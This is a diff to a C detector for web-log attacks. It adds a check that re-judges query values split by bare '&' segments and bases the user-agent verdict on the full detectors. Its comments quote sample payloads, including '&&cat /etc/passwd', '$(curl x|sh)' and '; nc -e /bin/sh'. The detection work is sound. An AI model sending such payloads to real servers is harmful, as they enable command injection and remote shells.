@@ -17,7 +17,9 @@
  * The detector holds the two compiled literal sets, read-only and shared;
  * the scratch holds the decode buffers and a cache of the pre-check
  * verdicts of recent targets, user agents and referers, which repeat from
- * line to line (a hit costs a hash and a memcmp instead of a scan).
+ * line to line (a hit costs a hash and a memcmp instead of a scan). A user
+ * agent's verdict is the detectors' own (agent_verdict): no byte test
+ * tells a browser's ';' and parentheses from a payload's.
  */
 #include "common.h"
 
@@ -185,15 +187,17 @@ static size_t verdict_set_of(const char *p, size_t n)
     return (size_t)(h % (MR_VERDICT_SLOTS / 2)) * 2;
 }
 
-typedef bool (*precheck_fn)(const mr_detector *d, const char *p, size_t n);
+typedef bool (*precheck_fn)(const mr_detector *d, mr_detect_scratch *s, const char *p,
+                            size_t n);
 
 /* Two-way set associative: a part may sit in either slot of its pair;
  * a miss replaces the one that was not used last (pair[0].lru says which). */
 static bool cached_precheck(verdict_slot *cache, size_t len_max, precheck_fn check,
-                            const mr_detector *d, const char *p, size_t n)
+                            const mr_detector *d, mr_detect_scratch *s, const char *p,
+                            size_t n)
 {
     if (n > len_max)
-        return check(d, p, n);
+        return check(d, s, p, n);
     verdict_slot *pair = &cache[verdict_set_of(p, n)];
     for (unsigned k = 0; k < 2; k++) {
         verdict_slot *slot = &pair[k];
@@ -202,7 +206,7 @@ static bool cached_precheck(verdict_slot *cache, size_t len_max, precheck_fn che
             return slot->suspect;
         }
     }
-    bool suspect = check(d, p, n);
+    bool suspect = check(d, s, p, n);
     unsigned victim = pair[0].lru;
     verdict_slot *slot = &pair[victim];
     slot->len = (uint16_t)n;
@@ -212,13 +216,9 @@ static bool cached_precheck(verdict_slot *cache, size_t len_max, precheck_fn che
     return suspect;
 }
 
-static bool agent_precheck(const mr_detector *d, const char *p, size_t n)
+static bool url_precheck(const mr_detector *d, mr_detect_scratch *s, const char *p, size_t n)
 {
-    return mr_agent_precheck(d->agent_lits, p, n);
-}
-
-static bool url_precheck(const mr_detector *d, const char *p, size_t n)
-{
+    (void)s;
     return mr_url_suspect(d->target_lits, p, n);
 }
 
@@ -427,6 +427,50 @@ static size_t base64_text(const char *v, size_t n, char *out, size_t cap, bool l
     return digits >= MR_B64_MIN ? w : 0;
 }
 
+/* A segment of the query without '=' is, to a form parser, a name with
+ * an empty value ("?print&id=5"); after a '&' it is as often the rest of
+ * the value before it, sent with its '&' unencoded: the value
+ * "127.0.0.1&&cat /etc/passwd" of "?ip=127.0.0.1&&cat /etc/passwd" is
+ * what the sender wrote (and what a CGI reading QUERY_STRING whole
+ * gets), where the parser sees "127.0.0.1", an empty segment and a name
+ * "cat /etc/passwd". So a value followed by such segments (RFC 3986
+ * gives '&' no meaning; the form encoding makes it the separator) is
+ * judged once more, joined with them as sent, after its parts: only what
+ * the parts alone did not show is added. The pre-check flags every query
+ * with a non-empty segment without '=' after a '&' (mr_raw_context). */
+static void check_joined(hit_set *h, mr_detect_scratch *s, unsigned mask,
+                         const char *q, size_t n)
+{
+    size_t run = 0, name_at = 0, name_n = 0, i = 0;
+    bool bare = false;
+    for (;;) {
+        const char *amp = memchr(q + i, '&', n - i);
+        size_t end = amp ? (size_t)(amp - q) : n;
+        const char *eq = memchr(q + i, '=', end - i);
+        if (eq || !amp) {
+            size_t stop = eq ? i - 1 : n;   /* the run ends before this segment */
+            bare = bare || (!eq && i > 0 && end > i);
+            if (bare) {
+                size_t vn = mr_normalize_part(q + run, stop - run, s->value,
+                                              sizeof s->value, MR_NORM_PLUS);
+                text_src src = {SRC_PART, q + run, stop - run, MR_NORM_PLUS};
+                check_part(h, mask, q + name_at, name_n, s->value, vn, &src);
+            }
+            if (eq) {
+                name_at = i;
+                name_n = (size_t)(eq - (q + i));
+                run = name_at + name_n + 1;
+                bare = false;
+            }
+        } else if (i > 0 && end > i) {
+            bare = true;
+        }
+        if (!amp)
+            break;
+        i = end + 1;
+    }
+}
+
 /* Each parameter of a raw query string, name and value decoded apart. */
 static void check_query(hit_set *h, mr_detect_scratch *s, unsigned mask,
                         const char *base, const char *q, size_t n)
@@ -468,6 +512,7 @@ static void check_query(hit_set *h, mr_detect_scratch *s, unsigned mask,
             break;
         i = end + 1;
     }
+    check_joined(h, s, mask, q, n);
 }
 
 
@@ -524,6 +569,28 @@ static void check_agent(hit_set *h, mr_detect_scratch *s, const char *ua, size_t
     check_part(h, MASK_HEADER, "", 0, s->value, un, &src);
 }
 
+/* The user agent's verdict. No byte test can tell a browser's agent from
+ * a payload: every browser sends ';', '(' and ')', the very characters of
+ * "Mozilla/5.0; $(curl x|sh)" and "; nc -e /bin/sh", and a byte test
+ * that passed them let the fast path miss what the full path finds. So
+ * the verdict is the full path's own: the detectors run on the agent
+ * alone, and it is suspect when they find anything (then mr_detect runs
+ * them again in the request's context, where a category the target
+ * already showed is not reported twice; one that finds nothing alone
+ * finds nothing there either). That is exact, and cheap where it
+ * matters: a log repeats a few thousand agents, and the verdict cache
+ * pays for each once. An agent with payload characters or words
+ * (mr_agent_precheck) is suspect at once. */
+static bool agent_verdict(const mr_detector *d, mr_detect_scratch *s, const char *p, size_t n)
+{
+    if (mr_agent_precheck(d->agent_lits, p, n))
+        return true;
+    mr_hit alone[MR_CAT_COUNT];
+    hit_set h = {alone, MR_CAT_COUNT, 0, 0, NULL};
+    check_agent(&h, s, p, n);
+    return h.count > 0;
+}
+
 static void check_referer(hit_set *h, const mr_detector *d, mr_detect_scratch *s,
                           const char *r, size_t n)
 {
@@ -557,15 +624,15 @@ size_t mr_detect(const mr_detector *d, mr_detect_scratch *s,
     bool all = s->unfiltered;
     mr_span t = ev->target;
     if (t.n > 0 && (all || cached_precheck(s->targets, MR_VERDICT_TARGET_LEN_MAX,
-                                           url_precheck, d, t.p, t.n)))
+                                           url_precheck, d, s, t.p, t.n)))
         check_target(&h, d, s, t.p, t.n);
     mr_span ua = ev->user_agent;
     if (ua.n > 0 &&
-        (all || cached_precheck(s->agents, MR_VERDICT_LEN_MAX, agent_precheck, d, ua.p, ua.n)))
+        (all || cached_precheck(s->agents, MR_VERDICT_LEN_MAX, agent_verdict, d, s, ua.p, ua.n)))
         check_agent(&h, s, ua.p, ua.n);
     mr_span r = strip_scheme(ev->referer);
     if (r.n > 1 &&
-        (all || cached_precheck(s->referers, MR_VERDICT_LEN_MAX, url_precheck, d, r.p, r.n)))
+        (all || cached_precheck(s->referers, MR_VERDICT_LEN_MAX, url_precheck, d, s, r.p, r.n)))
         check_referer(&h, d, s, r.p, r.n);
     return h.count;
 }
